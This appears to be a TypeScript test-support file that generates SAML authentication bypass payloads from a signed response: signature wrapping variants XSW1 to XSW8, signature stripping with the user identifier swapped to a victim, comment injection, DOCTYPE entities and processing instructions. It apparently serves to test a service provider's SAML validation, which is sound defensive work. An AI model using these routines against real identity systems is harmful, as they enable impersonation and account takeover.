// Programmatic attacks on a genuine signed SAML response (tests/support/saml-idp.ts): signature
// wrapping XSW1-8 (after Somorovsky et al., "On Breaking SAML", and SAML Raider's variants),
// signature stripping, comment injection, DOCTYPE and processing instructions.
import { DOMParser, XMLSerializer } from '@xmldom/xmldom';

const SAML = 'urn:oasis:names:tc:SAML:2.0:assertion';
const SAMLP = 'urn:oasis:names:tc:SAML:2.0:protocol';
const DSIG = 'http://www.w3.org/2000/09/xmldsig#';

export const decode = (b64: string) => Buffer.from(b64, 'base64').toString('utf8');
export const encode = (xml: string) => Buffer.from(xml, 'utf8').toString('base64');

type El = Element;
const parse = (xml: string) => new DOMParser().parseFromString(xml, 'text/xml') as unknown as Document;
const ser = (doc: Document) => new XMLSerializer().serializeToString(doc as never);
const kids = (el: El, ns: string, name: string) => Array.from(el.childNodes as unknown as ArrayLike<Node>).filter((n): n is El => n.nodeType === 1 && (n as El).namespaceURI === ns && (n as El).localName === name);
const one = (el: El, ns: string, name: string) => kids(el, ns, name)[0]!;

function setNameId(assertion: El, nameId: string) {
  const nid = assertion.getElementsByTagNameNS(SAML, 'NameID')[0]!;
  while (nid.firstChild) nid.removeChild(nid.firstChild);
  nid.appendChild(nid.ownerDocument!.createTextNode(nameId));
}

function stripSignature(el: El) {
  for (const s of kids(el, DSIG, 'Signature')) el.removeChild(s);
}

/** Applies `mutate` to the response's DOM and re-encodes it. */
function alter(b64: string, mutate: (doc: Document, response: El, assertion: El) => void): string {
  const doc = parse(decode(b64));
  const response = doc.documentElement as El;
  mutate(doc, response, one(response, SAML, 'Assertion'));
  return encode(ser(doc));
}

/** XSW1/XSW2 need a signed Response (saml-idp `signResponseToo`). */
export function xsw(variant: 1 | 2 | 3 | 4 | 5 | 6 | 7 | 8, b64: string, victim: string): string {
  return alter(b64, (doc, response, assertion) => {
    if (variant === 1 || variant === 2) {
      const original = response.cloneNode(true) as El;
      const evil = assertion;
      setNameId(evil, victim);
      response.setAttribute('ID', '_evil' + Date.now());
      const sig = one(response, DSIG, 'Signature');
      if (variant === 1) sig.appendChild(original);
      else response.insertBefore(original, sig);
      return;
    }
    const evil = assertion.cloneNode(true) as El;
    setNameId(evil, victim);
    if (variant === 3) {
      stripSignature(evil);
      evil.setAttribute('ID', '_evil' + Date.now());
      response.insertBefore(evil, assertion);
    } else if (variant === 4) {
      stripSignature(evil);
      evil.setAttribute('ID', '_evil' + Date.now());
      response.replaceChild(evil, assertion);
      evil.appendChild(assertion);
    } else if (variant === 5) {
      // Evil assertion keeps the copied signature; the original goes to the end of the response.
      evil.setAttribute('ID', '_evil' + Date.now());
      response.replaceChild(evil, assertion);
      stripSignature(assertion);
      response.appendChild(assertion);
    } else if (variant === 6) {
      evil.setAttribute('ID', '_evil' + Date.now());
      response.replaceChild(evil, assertion);
      const sig = one(evil, DSIG, 'Signature');
      stripSignature(assertion);
      sig.appendChild(assertion);
    } else if (variant === 7) {
      stripSignature(evil);
      const ext = doc.createElementNS(SAMLP, 'samlp:Extensions');
      response.insertBefore(ext, assertion);
      ext.appendChild(assertion);
      response.appendChild(evil);
    } else {
      evil.setAttribute('ID', '_evil' + Date.now());
      response.replaceChild(evil, assertion);
      const sig = one(evil, DSIG, 'Signature');
      const obj = doc.createElementNS(DSIG, 'ds:Object');
      stripSignature(assertion);
      obj.appendChild(assertion);
      sig.appendChild(obj);
    }
  });
}

/** Every signature removed, NameID changed. */
export function stripSignatures(b64: string, victim: string): string {
  return alter(b64, (_doc, response, assertion) => {
    stripSignature(response);
    stripSignature(assertion);
    setNameId(assertion, victim);
  });
}

/** NameID `victim<!---->suffix`: exclusive C14N ignores the comment, so the signature still holds. */
export function commentInjection(b64: string, victimPrefix: string): string {
  const xml = decode(b64);
  const i = xml.indexOf(victimPrefix);
  if (i < 0) throw new Error('prefix not in NameID');
  return encode(xml.slice(0, i + victimPrefix.length) + '<!---->' + xml.slice(i + victimPrefix.length));
}

export function withDoctype(b64: string): string {
  return encode('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x "x">]>' + decode(b64).replace(/^<\?xml[^?]*\?>/, ''));
}

export function withProcessingInstruction(b64: string): string {
  const xml = decode(b64);
  const i = xml.indexOf('<saml:Assertion');
  return encode(xml.slice(0, i) + '<?evil data?>' + xml.slice(i));
}
